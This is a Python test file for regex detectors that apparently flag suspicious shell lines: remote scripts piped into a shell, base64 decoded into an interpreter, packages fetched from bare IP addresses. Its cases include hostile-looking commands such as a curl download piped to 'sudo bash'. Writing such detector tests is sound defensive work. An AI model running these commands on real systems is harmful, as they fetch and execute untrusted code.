import re

import pytest

from features.surfaces.fragments import ADDRESS_WORDS, BARE_ADDRESS, DECODED, FETCHED, REMOTE_PACKAGE, either


def test_either_matches_any_of_its_alternatives() -> None:
    assert re.fullmatch(either(b"a", b"bc"), b"bc")


@pytest.mark.parametrize(
    ("pattern", "text", "expected"),
    [
        (FETCHED, b"curl -s https://a.example/x | sudo bash", True),
        (FETCHED, b"curl -s https://astral.sh/uv/install.sh | sh", False),
        (FETCHED, b"curl -s https://a.example/x | jq .", False),
        (DECODED, b"echo cHJpbnQ= | base64 --decode | python3", True),
        (DECODED, b"base64 -d key.txt > key.bin", False),
        (REMOTE_PACKAGE, b"uvx --from git+https://198.51.100.4/x tool", True),
        (REMOTE_PACKAGE, b"uvx ruff check", False),
        (BARE_ADDRESS, b"http://203.0.113.9:80/x", True),
        (BARE_ADDRESS, b"http://192.168.1.1/x", False),
        (BARE_ADDRESS, b"http://127.0.0.1/x", False),
    ],
)
def test_a_fragment_matches_its_act_and_no_honest_line(pattern: bytes, text: bytes, expected: bool) -> None:
    assert expected is (re.search(pattern, text) is not None)


def test_bare_addresses_contain_one_of_their_words() -> None:
    assert any(word in b"http://203.0.113.9/x" for word in ADDRESS_WORDS)
